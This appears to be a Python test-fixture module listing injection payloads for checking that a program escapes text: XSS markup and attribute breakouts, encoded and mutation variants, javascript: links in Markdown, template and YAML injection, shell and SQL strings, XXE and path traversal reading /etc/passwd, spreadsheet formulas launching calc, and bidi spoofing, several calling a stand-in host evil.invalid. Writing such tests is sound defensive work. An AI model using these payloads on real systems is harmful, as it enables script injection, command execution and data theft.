"""Texts that become markup, script, template, style, link, path or formula where a program fails to escape.

Our own selection in the style of published collections: one or a few for each trick. Whatever runs sets
`__pwned`, opens a dialog or asks `evil.invalid` for something; the tests look for all three.
"""

from __future__ import annotations

_RUN = "(self.__pwned=1,alert(1))"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    f"<script/type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}//",
    f"<IMG SRC=x ONERROR='{_RUN}'",
    f"<<img src=x onerror={_RUN}>>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>tap</text></a></svg>",
    f"<math><maction actiontype='statusline#' xlink:href='javascript:{_RUN}'>tap</maction></math>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<x contenteditable onblur={_RUN} tabindex=1 autofocus>lose focus</x>",
    f"<a onmouseover={_RUN} href=#>pass over</a>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<object data=//evil.invalid/x.swf></object>",
    "<embed src=//evil.invalid/x.svg>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/y>",
    "<form action=//evil.invalid/><button autofocus>send</button></form>",
    f"<button popovertarget=sections onclick={_RUN}>Sections</button>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<dialog open onclose={_RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<p style='animation:x 1s' onanimationstart={_RUN}>x</p><style>@keyframes x{{}}</style>",
    f"<div id=__config>{{}}</div><img name=getElementById onerror={_RUN} src=x>",
)
"""Elements, whole."""

BREAKOUT = (
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} tabindex=1 x="',
    f"' onmouseover={_RUN} x='",
    f"x onclick={_RUN} y=",
    f"</title><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</style><img src=x onerror={_RUN}>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script>--><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}><!--",
    f"--!><img src=x onerror={_RUN}>",
    f"]]><img src=x onerror={_RUN}>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?x?><img src=x onerror={_RUN}>",
    f"</noscript><img src=x onerror={_RUN}>",
    f"</article></main></body></html><img src=x onerror={_RUN}>",
    f'";{_RUN}//',
    f'\\";{_RUN}//',
    f"'-{_RUN}-'",
    f"${{{_RUN}}}",
    '"},"injected":{"url":"//evil.invalid/"},"x":{"',
    "</title></entry><entry><id>injected</id><title>x",
    "</loc></url><url><loc>http://evil.invalid/",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
"""Ends of the place in which the text might stand."""

MUTATION = (
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<svg><desc><b><p title='</b></desc></svg><img src=x onerror={_RUN}>'>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={_RUN}>',
)
"""Markup that parsers read differently the second time."""

ENCODED = (
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"&#0000060img src=x onerror={_RUN}&#0000062",
    f"&LT;svg/onload&equals;{_RUN}&GT;",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜img src=x onerror={_RUN}＞",
    f"‹script›{_RUN}‹/script›",
    f"ʺ><svg onload={_RUN}>",
    f"¼script¾{_RUN}¼/script¾",
    f"<ſcript>{_RUN}</ſcript>",
    "&nbsp;&shy;&ZeroWidthSpace;&unknown;&",
    "a & b &copy 2022 &notit; &#128; &#xD800; &#0;",
)
"""The same behind one more layer, for places that undo one."""

MARKDOWN = (
    f"[tap](javascript:{_RUN})",
    f"[tap](JaVaScRiPt&colon;{_RUN})",
    f"[tap](java&#x09;script:{_RUN})",
    f"[tap](<javascript:{_RUN}>)",
    f'![x](x "onerror={_RUN}")',
    f'![x" onerror="{_RUN}](x)',
    f"<javascript:{_RUN}>",
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[tap](//evil.invalid/path)",
    "![beacon](http://evil.invalid/pixel.png)",
    f"[tap]: javascript:{_RUN} 'title'",
    f"# Head <img src=x onerror={_RUN}>",
    f"text {{: onclick={_RUN} #content .skip }}",
    f"<div markdown=1><img src=x onerror={_RUN}></div>",
    '--8<-- "/etc/passwd"',
    '!!! note "<script>alert(1)</script>"',
    f"```html\n<script>{_RUN}</script>\n```",
    f"| a | <img src=x onerror={_RUN}> |",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"*[HTML]: <img src=x onerror={_RUN}>",
    "::: digest.cli",
    "[[../../../etc/passwd]]",
    "*__`**_~~[x]~~_**`__*",
)
"""Markdown and its extensions."""

TEMPLATES = (
    "{{ 7*191 }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# a comment #} after it",
    "#{7*191} <%= 7*191 %> ${7*191} @(7*191)",
    "{0.__class__.__init__.__globals__}",
    "%(name)s %s %n %x",
    "!ENV HOME",
    "!!python/object/apply:os.system ['id']",
    "$(touch /tmp/pwned) `id` ; id | id && id",
    "__proto__",
    "constructor",
)
"""Templates, format strings, YAML tags, shells, JavaScript's own names."""

STYLE = (
    "x;background:url(//evil.invalid/css)",
    "}body{display:none}",
    f"expression({_RUN})",
    "</style><style>*{background:url(//evil.invalid/all)}</style>",
)

ADDRESSES = (
    f"javascript:{_RUN}",
    f"JAVASCRIPT:{_RUN}//https://desk.example/",
    f"java\tscript:{_RUN}",
    f"javascript://desk.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.invalid/relative",
    "\\\\evil.invalid\\share",
    "/\\evil.invalid/x",
    "http:evil.invalid",
    "https://desk.example@evil.invalid/",
    f'https://desk.example/"onmouseover={_RUN}',
    f"https://desk.example/<script>{_RUN}</script>",
    "https://desk.example/a b",
    "file:///etc/passwd",
    "http://[::1",
    "https://desk.example:99999/",
)
"""What must not become a link."""

UNICODE = (
    "Overridden \u202egnp.exe\u202c ends",
    "Isolated \u2067txt.\u2066exe\u2069\u2069 ends",
    "Arabic mark \u061c and Mongolian \u180e vowel",
    "Zero\u200bwidth\u200djoined\u2060text\ufeff",
    "\ufeffMark at the start",
    "Line\u2028separator\u2029paragraph\x85next",
    "Combined a" + "\u0300\u0489" * 30,
    "Not a character \ufffe \uffff \U0001fffe",
    "Tagged \U000e0001\U000e0061 text",
    "Family \U0001f468\u200d\U0001f469\u200d\U0001f467 and flag \U0001f1fa\U0001f1e6",
    '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 "quoted" <b> \u05e2\u05d1\u05e8\u05d9\u05ea',
    "Soft\u00adhyphen and\u00a0no-break",
    "Replaced \ufffd and \ufffc object",
)

CONTROLS = (
    "Nul \x00 inside",
    "Bell \x07 and \x1b[31mred\x1b[0m \x1b]0;title\x07",
    "Back\x08space \x0bvertical \x0cform \x7fdelete",
    "Carriage\rreturn, then\nline\ttab",
    "C1 \x9b31m controls \x80\x9f",
)
"""Control characters: a reader may refuse the file, nothing may show them."""

CELLS = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid/","tap")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""Spreadsheet formulas."""

PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "C:\\boot.ini",
    "CON",
    ".htaccess",
    "index.html",
    "x?y=1#z",
    "~root",
    "a;b,c&d=e",
    "' OR 1=1 --",
)

PAYLOADS = (
    *MARKUP,
    *BREAKOUT,
    *MUTATION,
    *ENCODED,
    *MARKDOWN,
    *TEMPLATES,
    *STYLE,
    *ADDRESSES,
    *UNICODE,
    *CONTROLS,
    *CELLS,
    *PATHS,
)
"""All of them, in a fixed order."""
